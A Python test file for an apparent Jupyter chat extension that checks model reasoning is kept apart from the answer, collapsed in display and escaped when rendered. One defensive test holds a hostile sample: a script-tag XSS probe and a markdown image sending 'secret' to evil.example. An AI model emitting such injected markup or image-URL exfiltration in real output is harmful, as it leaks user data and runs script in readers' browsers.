"""Reasoning apart from the answer: streamed ``reasoning_content`` / ``reasoning`` deltas and a
leading ``<think>…</think>`` are shown marked and collapsed above the answer, kept in the turn's
meta, and never part of the answer's text — not in ``-o``, ``text/plain`` or the next request."""

from __future__ import annotations

import json
from typing import Any

from amigo_magic.protocol import ReasoningDelta, TextDelta, parse_chunk, parse_completion
from tests.amigo_server import AmigoServer, Reply
from tests.shell import Recorder, TestingShell


def sse(*deltas: dict[str, Any]) -> Reply:
    """A stream of these deltas, a finish and [DONE], byte for byte."""
    events = [{"choices": [{"index": 0, "delta": d, "finish_reason": None}]} for d in deltas]
    events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    body = "".join(f"data: {json.dumps(e)}\n\n" for e in events) + "data: [DONE]\n\n"
    return Reply.raw(body.encode(), content_type="text/event-stream")


def chat_requests(server: AmigoServer) -> list[dict[str, Any]]:
    return [r.json for r in server.requests if r.path == "/v1/chat/completions"]


def final(ip: TestingShell) -> dict[str, Any]:
    pub = ip.display_pub
    assert isinstance(pub, Recorder)
    return pub.final()


def test_reasoning_fields_parse_as_their_own_events() -> None:
    chunk = {"choices": [{"delta": {"reasoning_content": "hmm"}, "finish_reason": None}]}
    assert parse_chunk(chunk) == [ReasoningDelta("hmm")]
    chunk = {"choices": [{"delta": {"content": None, "reasoning": "so"}, "finish_reason": None}]}
    assert parse_chunk(chunk) == [ReasoningDelta("so")]
    reply = {"choices": [{"message": {"content": "4", "reasoning_content": "2+2"}}]}
    assert parse_completion(reply) == [ReasoningDelta("2+2"), TextDelta("4")]


def test_streamed_reasoning_is_shown_apart_and_never_part_of_the_answer(
    ip: TestingShell, server: AmigoServer
) -> None:
    server.enqueue(
        sse(
            {"role": "assistant", "content": ""},
            {"reasoning_content": "The user wants a sum. "},
            {"reasoning_content": "Two and two make four."},
            {"content": "The answer "},
            {"content": "is 4."},
        )
    )
    ip.run_cell("%%amigo -o answer\nWhat is 2+2?")
    assert ip.user_ns["answer"] == "The answer is 4."
    shown = final(ip)
    assert "Two and two" not in shown["text/plain"]
    assert shown["text/plain"].startswith("The answer is 4.")
    markdown = shown["text/markdown"]
    block, _, rest = markdown.partition("\n\n")
    assert block.startswith('<details class="amigo-reasoning"><summary>💭 reasoning · 10 words')
    assert "The user wants a sum. Two and two make four." in block  # collapsed: no "open"
    assert "The answer is 4." in rest
    ip.run_cell("%%amigo\nAnd 3+3?")
    sent = chat_requests(server)[-1]["messages"]
    assert [m["content"] for m in sent] == ["What is 2+2?", "The answer is 4.", "And 3+3?"]
    ip.run_cell("_h = get_ipython().find_line_magic('amigo').__self__.session.history()")
    answer = ip.user_ns["_h"][1]
    assert answer.content == "The answer is 4."
    assert answer.meta["reasoning"] == "The user wants a sum. Two and two make four."


def test_a_leading_think_block_split_across_pieces_goes_apart(
    ip: TestingShell, server: AmigoServer
) -> None:
    pieces = ["  <thi", "nk>First I add", " the two.</thi", "nk>\n\nIt is ", "4."]
    server.enqueue(Reply.stream(chunks=pieces))
    ip.run_cell("%%amigo -o answer\n2+2?")
    assert ip.user_ns["answer"] == "It is 4."
    shown = final(ip)
    assert "First I add" not in shown["text/plain"]
    assert "First I add the two." in shown["text/markdown"]
    server.enqueue(Reply.stream(chunks=["<b>bold</b> ", "answer"]))  # a tag that is not <think>
    ip.run_cell("%%amigo -o plain\nq")
    assert ip.user_ns["plain"] == "<b>bold</b> answer"


def test_hostile_reasoning_is_escaped_on_one_line_of_markup(
    ip: TestingShell, server: AmigoServer
) -> None:
    hostile = "<script>alert(1)</script>\n\n![x](https://evil.example/?q=secret)\n\n# head"
    server.enqueue(sse({"reasoning": hostile}, {"content": "fine"}))
    ip.run_cell("%%amigo\nq")
    block = final(ip)["text/markdown"].partition("\n\n")[0]
    assert "<script" not in block
    assert "&lt;script&gt;" in block
    assert "\n" not in block  # no blank line ends the HTML block and lets markdown read the rest
    assert block.endswith("</details>")


def test_reasoning_is_open_while_the_model_thinks_and_collapsed_once_it_answers() -> None:
    from amigo_magic.answer import AnswerState
    from amigo_magic.render import answer_bundle

    thinking = AnswerState("", "m", "default", "thinking", 1.0, reasoning="weighing it")
    data, _ = answer_bundle(thinking)
    assert data["text/markdown"].startswith('<details class="amigo-reasoning" open>')
    assert "weighing it" not in data["text/plain"]
    answering = AnswerState("It is", "m", "default", "streaming", 1.0, 2, reasoning="weighing it")
    data, _ = answer_bundle(answering)
    assert data["text/markdown"].startswith('<details class="amigo-reasoning"><summary>')


def test_the_panel_shows_reasoning_apart_and_keeps_it_out_of_the_answer(
    server: AmigoServer, tmp_path: Any
) -> None:
    from amigo_magic import ChatPanel
    from amigo_magic.config import Settings
    from amigo_magic.runner import close_runner, get_runner
    from amigo_magic.session import ChatSession
    from amigo_magic.store import SQLiteStore
    from tests.shell import wait_until

    store = SQLiteStore(tmp_path / "h.db")
    session = ChatSession(store=store, notebook="panel.ipynb", runner=get_runner())
    settings = Settings(base_url=server.base_url)
    panel = ChatPanel(session=session, settings=lambda: settings)
    server.enqueue(sse({"reasoning_content": "<b>Add</b> them."}, {"content": "It is 4."}))
    try:
        panel.prompt.value = "2+2?"
        panel.send_button.click()
        wait_until(lambda: not panel.send_button.disabled, "the answer to end")
        box = panel.turn_boxes[1]  # the header's HTML (the reasoning), then the answer's Output
        text = [o["data"].get("text/markdown", "") for o in box.children[1].outputs]
        shown = str(box.children[0].value) + "".join(text)
        assert '<details class="amigo-reasoning"><summary>💭 reasoning · 2 words' in shown
        assert "&lt;b&gt;Add&lt;/b&gt; them." in shown  # escaped
        assert "It is 4." in shown
        kept = store.load("panel.ipynb", "default")[-1]
        assert (kept.content, kept.meta["reasoning"]) == ("It is 4.", "<b>Add</b> them.")
        again = ChatPanel(session=session, settings=lambda: settings)  # from history
        assert "amigo-reasoning" in str(again.turn_boxes[1].children[0].value)
        assert "Add" not in "".join(str(o) for o in box.children[1].outputs)  # not the answer
    finally:
        close_runner()
        store.close()
